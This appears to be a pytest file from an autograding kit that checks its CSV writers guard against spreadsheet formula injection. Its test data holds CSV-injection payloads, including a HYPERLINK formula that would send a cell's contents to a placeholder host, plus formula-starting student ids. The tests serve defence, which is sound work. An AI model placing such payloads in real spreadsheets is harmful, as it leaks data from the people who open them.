"""Every CSV the kit writes shows a student's text as text: no cell starts with = + - @ (or a tab
or carriage return), whichever writer made it (autograder.course.spreadsheet is the only one).

The class report's tables, the CI route's collected.csv, and `nbgrader export` (the kit's
CsvExport plugin) are fed student ids, names and messages that start with each formula character;
collect's collect_skipped.csv is checked in test_collect_isolation.py with the same helper.
"""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.course.assignment import ROOT
from autograder.course.spreadsheet import cell, starts_formula
from autograder.reports.graded import Graded
from autograder.reports.page import render
from autograder.results import Confinement, Results
from tests.course import A, add_students, make_course, nbgrader
from tests.nb74 import NB74

RUBRIC = NB74.rubric
# each formula start, as a spreadsheet would run it
EVIL = [f'{c}HYPERLINK("http://x.invalid/"&A1)' for c in ("=", "+", "-", "@", "＝")]
EVIL += ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1"]


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def assert_guarded(path: Path, expected: list[str]) -> None:
    """No cell of `path` starts a formula, and each of `expected` is there, guarded (so the test
    sees the text it fed in: a writer that dropped it would not pass)."""
    found = cells_of(path)
    bad = [c for c in found if starts_formula(c)]
    assert not bad, (path.name, bad)
    for text in expected:
        assert any(text in c for c in found if c.startswith("'")), (path.name, text, found)


def test_the_guard_itself() -> None:
    assert cell("=HYPERLINK(1)") == "'=HYPERLINK(1)" and cell("-1+1") == "'-1+1" and cell("@x") == "'@x"
    assert cell("\t=1") == "'\t=1" and cell("\r=1") == "'\r=1" and cell("\n=1") == "'\n=1"
    assert cell(" =1") == "' =1" and cell("＝1") == "'＝1"
    assert cell("dW が転置") == "dW が転置" and cell(3) == 3 and cell(-1.5) == -1.5


def test_the_class_report_tables(tmp_path: Path) -> None:
    cls = [
        Graded(
            evil, {p: 0.0 for p in RUBRIC.parts}, Results.empty(RUBRIC, evil, Confinement("process")).with_notes([evil])
        )
        for evil in EVIL
    ]
    out = tmp_path / "report"
    render(cls, NB74, "sqlite:///x", out)
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} == {"scores.csv", "diagnoses.csv", "test_failures.csv", "problems.csv"}
    for path in written:
        assert not [c for c in cells_of(path) if starts_formula(c)], path.name
    assert_guarded(out / "scores.csv", EVIL)  # the students' ids
    assert_guarded(out / "problems.csv", EVIL)  # ids and the messages


def test_collected_csv_of_the_ci_route(tmp_path: Path) -> None:
    """The roster lets a student id start with @ only (= + - and a leading - are refused): an id
    like that, on a repository that is not there (git fails at once on a file:// URL)."""
    roster = tmp_path / "roster.txt"
    roster.write_text("org/nothing-here @SUM\norg/plain s1\n", encoding="utf-8")
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder.routes.ci.collect",
            "--roster",
            str(roster),
            "--root",
            str(tmp_path),
            "--base-url",
            f"file://{tmp_path / 'hub'}",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert_guarded(tmp_path / "collected.csv", ["@SUM"])
    assert (tmp_path / "submitted" / "@SUM" / A).is_dir()  # the folder keeps the id as it is


@pytest.mark.slow
def test_nbgrader_export(tmp_path: Path) -> None:
    """The real `nbgrader export` with the kit's config: ids, names and e-mail addresses starting
    a formula (a roster pasted from an LMS), one with a comma that nbgrader's own export would
    split into two columns."""
    course = make_course(tmp_path / "course")
    ids = ["=cmd", "+1", "-2-3", "@SUM", "＝x", "s6", "s7", "s8", "s9"]
    add_students(course, ids)
    roster = course / "names.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "first_name", "last_name", "email"])
        for sid, evil in zip(ids, EVIL, strict=True):
            w.writerow([sid, evil, "Doe, Jr." if sid == "s9" else evil, evil])
    nbgrader(course, "db", "student", "import", str(roster))
    out = tmp_path / "grades.csv"
    nbgrader(course, "export", f"--to={out}")
    # nbgrader's roster import reads \r as \n: that one comes back as "\n=1+1"
    assert_guarded(out, [e.replace("\r", "\n") for e in EVIL] + ["=cmd", "-2-3", "@SUM"])
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(ids) and all(len(r) == 11 and None not in r for r in rows)
    assert {r["last_name"] for r in rows if r["student_id"] == "s9"} == {"Doe, Jr."}
